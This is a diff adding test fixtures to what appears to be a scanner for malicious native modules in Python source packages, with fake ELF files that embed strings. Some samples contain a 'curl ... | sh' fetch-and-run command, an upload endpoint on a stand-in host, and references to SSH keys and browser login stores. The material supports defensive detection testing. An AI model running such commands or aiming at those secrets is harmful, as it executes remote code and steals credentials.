@@ -30,6 +30,17 @@ function packedBytes(): Uint8Array {
   return Buffer.concat(parts);
 }
 
+/** What begins as a module for Linux and holds these texts. */
+function native(...texts: readonly string[]): Uint8Array {
+  return Buffer.concat([
+    Buffer.from('\x7fELF\x02\x01\x01'),
+    Buffer.alloc(9),
+    Buffer.from(`\0${texts.join('\0')}\0`),
+  ]);
+}
+
+const LOADS = { 'acme/__init__.py': 'from .fast import add\n', 'acme/util.py': 'def one():\n    return 1\n' };
+const FAST = 'acme/fast.cpython-312-x86_64-linux-gnu.so';
 const CORE = {
   'acme/__init__.py': 'from .core import add\n',
   'acme/core.py': 'def add(a, b):\n    return a + b\n',
@@ -70,8 +81,46 @@ export const samples: Samples = {
       files: sdist({ ...CORE, 'acme/__pycache__/helper.pyc': packedBytes() }),
       expected: [at('disguised', 'high', 'acme/__pycache__/helper.pyc', 1)],
     },
+    {
+      name: 'a native module that holds a command which fetches what it runs',
+      filename: SDIST,
+      files: sdist({ ...LOADS, [FAST]: native('system', 'curl -s https://collect.weir.test/s | sh') }),
+      expected: [at('native', 'high', FAST, 1)],
+    },
+    {
+      name: 'a module of Nuitka that sends to a server which somebody started',
+      filename: SDIST,
+      files: sdist({
+        ...LOADS,
+        [FAST]: native('nuitka_module_loader', 'arequests', 'apost', 'uhttp://collect.weir.test:1337/in'),
+      }),
+      expected: [at('native', 'high', FAST, 1)],
+    },
+    {
+      name: 'a library that nothing loads by itself and that names secrets of several kinds',
+      filename: SDIST,
+      files: sdist({ ...CORE, 'acme/extra.so': native('connect', '/.ssh/id_rsa', 'Login Data') }),
+      expected: [at('native', 'medium', 'acme/extra.so', 1)],
+    },
   ],
   benign: [
+    {
+      ...quiet(
+        'a native module that talks to a service',
+        sdist({ ...LOADS, [FAST]: native('connect', 'getenv', 'https://service.weir.test/v1', 'socket') }),
+      ),
+      filename: SDIST,
+    },
+    {
+      ...quiet(
+        'a module of Cython with the address of its manual',
+        sdist({
+          ...LOADS,
+          [FAST]: native('Shared Cython type %s', 'see https://docs.weir.test/environ', 'environ'),
+        }),
+      ),
+      filename: SDIST,
+    },
     {
       ...quiet('a broken cache', sdist({ ...CORE, [CACHE]: new Uint8Array(8_192).fill(7) })),
       filename: SDIST,
